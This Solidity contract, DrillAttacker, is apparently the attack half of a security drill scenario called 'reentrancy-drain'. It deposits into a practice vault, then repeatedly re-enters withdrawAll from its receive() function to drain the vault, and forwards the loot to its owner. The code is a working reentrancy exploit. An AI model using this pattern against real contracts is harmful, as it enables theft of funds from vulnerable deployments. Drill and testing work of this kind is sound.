// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

/// @notice What DrillAttacker calls on DrillVault.
interface IDrillVault {
    function deposit() external payable;
    function withdrawAll() external;
}

/// @title DrillAttacker
/// @notice The reentrancy exploit of `firebreak drill --scenario reentrancy-drain`:
/// it deposits, withdraws, and re-enters DrillVault.withdrawAll from receive() until it
/// has been paid `times` times, then forwards everything to its owner.
/// @dev For throw-away local chains only.
contract DrillAttacker {
    IDrillVault public immutable vault;
    address public immutable owner;
    uint256 private _remaining;

    error NotOwner();
    error TransferFailed();

    constructor(address vault_) {
        vault = IDrillVault(vault_);
        owner = msg.sender;
    }

    /// @notice Deposits msg.value and withdraws it `times` times over; the loot goes
    /// to the owner. Reverts, taking nothing, once the vault is paused.
    function attack(uint256 times) external payable {
        if (msg.sender != owner) revert NotOwner();
        _remaining = times;
        vault.deposit{value: msg.value}();
        vault.withdrawAll();
        _remaining = 0;
        (bool ok,) = owner.call{value: address(this).balance}("");
        if (!ok) revert TransferFailed();
    }

    receive() external payable {
        if (msg.sender == address(vault) && _remaining > 1) {
            _remaining--;
            vault.withdrawAll();
        }
    }
}
